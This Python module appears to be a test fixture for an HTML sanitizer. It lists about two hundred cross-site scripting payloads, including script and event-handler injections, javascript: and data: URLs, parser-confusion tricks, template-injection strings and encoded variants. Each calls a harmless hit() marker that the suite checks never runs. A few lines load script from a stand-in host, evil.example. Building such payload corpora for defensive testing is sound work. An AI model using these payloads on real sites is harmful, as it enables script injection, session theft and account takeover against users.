"""Two hundred texts that try to be more than text. Each calls ``hit()`` where it succeeds; none of them may."""

from __future__ import annotations

FEW = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "</textarea><img src=x onerror=hit()>",
    "</script><script>hit()</script>",
    "</style><img src=x onerror=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<a href=javascript:hit()>click</a>",
    "javascript:hit()",
    "<details open ontoggle=hit()>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>",
    "<input autofocus onfocus=hit()>",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "<div x-init=hit() x-data>",
    "<div scheduler-init=hit() scheduler-data>",
    "\x1b]8;;javascript:hit()\x07link\x1b]8;;\x07 \x1b[31m<img src=x onerror=hit()>",
]
"""In every run of the suite."""

_EVENTS = """
    onload onerror onfocus onblur onclick onmouseover onmouseenter onpointerenter onpointerover onanimationstart
    onanimationend ontransitionend ontoggle onbeforetoggle oncanplay onloadstart onloadeddata onprogress
    ondurationchange onscroll onscrollend onwheel onbegin onend onrepeat onpageshow onhashchange onpopstate onmessage
    oncut onpaste onselect oninput onchange oninvalid onsubmit onreset onkeydown oncontextmenu onauxclick ondrag
    onfinish onstart onbounce
""".split()  # noqa: SIM905
_ELEMENTS = """
    img svg body input select textarea keygen video audio source details marquee iframe object embed form button isindex
    math style link meta base table td frameset applet xss custom-element a area image dialog template slot
""".split()  # noqa: SIM905
_AROUND = [
    "{0}",
    '">{0}',
    "'>{0}",
    "--><!-- {0}",
    "]]>{0}",
    "</title>{0}",
    "</noscript>{0}",
    "</template>{0}",
    "</select>{0}",
    "</iframe>{0}",
    "`{0}",
    "\\x3c{0}",
    "&lt;/div&gt;{0}",
    "</div></div></div>{0}",
    "<!--[if gte IE 4]>{0}<![endif]-->",
    "<b title='{0}'>",
]
_URLS = [
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    " javascript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "&#x6A;avascript:hit()",
    "javascript://%0ahit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
    "vbscript:hit()",
    "blob:hit()",
    "//evil.example/x.js",
]
_SINGLE = [
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>hit()</script>",
    "<script/x>hit()</script>",
    "<svg/onload=hit()//",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='hit()'/>#x\"/></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    '<math><mi//xlink:href="data:x,<script>hit()</script>">',
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<table background=javascript:hit()>",
    '<div style="background:url(javascript:hit())">',
    '<div style="width:expression(hit())">',
    "<style>@import 'javascript:hit()';</style>",
    "<style>*{x:expression(hit())}</style>",
    "<link rel=stylesheet href=javascript:hit()>",
    "<link rel=import href=data:text/html,<script>hit()</script>>",
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    "<base href=javascript:hit()//>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<iframe src=javascript:parent.hit()>",
    '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;">',
    "<form action=javascript:hit()><input type=submit autofocus>",
    "<button formaction=javascript:hit()>x</button>",
    "<input type=image src=x onerror=hit()>",
    "<video><source onerror=hit()>",
    "<video poster=javascript:hit()>",
    "<audio src=x onerror=hit()>",
    "<template><script>hit()</script></template>",
    "<x contenteditable onblur=hit() tabindex=1 id=x>",
    "<img src=`x` onerror=hit()>",
    "<img src=x:x onerror\n=\nhit()>",
    "<img/src='x'/onerror='hit()'/>",
    "<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>",
    "<IMG SRC=x ONERROR=hit()>",
    "<img srcset=x onerror=hit()>",
    "<picture><source srcset=x><img onerror=hit()></picture>",
    "\u003cscript\u003ehit()\u003c/script\u003e",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "%3Cscript%3Ehit()%3C/script%3E",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "<\u0000script>hit()</script>".replace("\u0000", "\ufffd"),
    "<div x-html=\"'<img src=x onerror=hit()>'\" x-data>",
    "<div x-data x-on:click=hit() x-effect=hit()>",
    '<div x-data="hit()" :class="hit()" @load=hit()>',
    "<div scheduler-html=\"'<img src=x onerror=hit()>'\">",
    "<template x-if=true><img src=x onerror=hit()></template>",
    "<div x-bind:onclick=hit() x-ref=hit x-teleport=body>",
    "{{ hit() }}",
    "{% raw %}{{ hit() }}{% endraw %}",
    "[[constructor.constructor('hit()')()]]",
    "#{hit()}",
    "<%= hit() %>",
    "<?php hit() ?>",
    "';hit();//",
    '";hit();//',
    "`;hit();//",
    "\\';hit();//",
    '\\";hit();//',
    "*/hit()/*",
    "-->hit()",
    "</pre><img src=x onerror=hit()><pre>",
    "[click](javascript:hit())",
    '![x](x"onerror="hit())',
    "[x]: javascript:hit()",
    "<javascript:hit()>",
    "```\n</code></pre><img src=x onerror=hit()>",
    "$\\href{javascript:hit()}{x}$",
    "$\\unicode{<img src=x onerror=hit()>}$",
    '\x1b[0m\x1b[38;5;"><img src=x onerror=hit()>m',
    "\x1b]0;<img src=x onerror=hit()>\x07",
    "\x9b31m<svg onload=hit()>",
    "\r\n\r\n<script>hit()</script>",
    "\u2028<script>hit()</script>\u2029",
    "\u202e)(tih=rorreno x=crs gmi<",
    "__proto__[innerHTML]=<img src=x onerror=hit()>",
    "constructor.prototype.innerHTML",
    "<object type=text/x-scriptlet data=//evil.example/x></object>",
    "<portal src=javascript:hit()>",
    "<dialog open oncancel=hit() onclose=hit()>",
    "<div popover id=p ontoggle=hit()></div><button popovertarget=p autofocus>",
    "<slot onslotchange=hit()>",
    "<img src=x onerror=eval(atob('aGl0KCk='))>",
    "<img src=x onerror=window['hi'+'t']()>",
    "<img src=x onerror=top.hit?.()>",
    "<img src=x onerror=setTimeout('hit()')>",
    "<img src=x onerror=Function('hit()')()>",
    "<img src=x onerror=import('data:text/javascript,hit()')>",
]


def _made() -> list[str]:
    """What the parts make, in turns, so that the first of them differ most."""
    events = [f"<xss {event}=hit() tabindex=1 autofocus style=animation-name:x>" for event in _EVENTS]
    elements = [f"<{element} src=x href=x onerror=hit() onload=hit() autofocus onfocus=hit()>" for element in _ELEMENTS]
    around = [form.format("<img src=x onerror=hit()>") for form in _AROUND]
    urls = [f'<a href="{url}" target=_self autofocus>x</a>' for url in _URLS] + _URLS
    rows = (elements, around, urls, events)
    return [row[turn] for turn in range(max(map(len, rows))) for row in rows if turn < len(row)]


MANY = list(dict.fromkeys([*FEW, *_SINGLE, *_made()]))[:200]
"""On demand."""
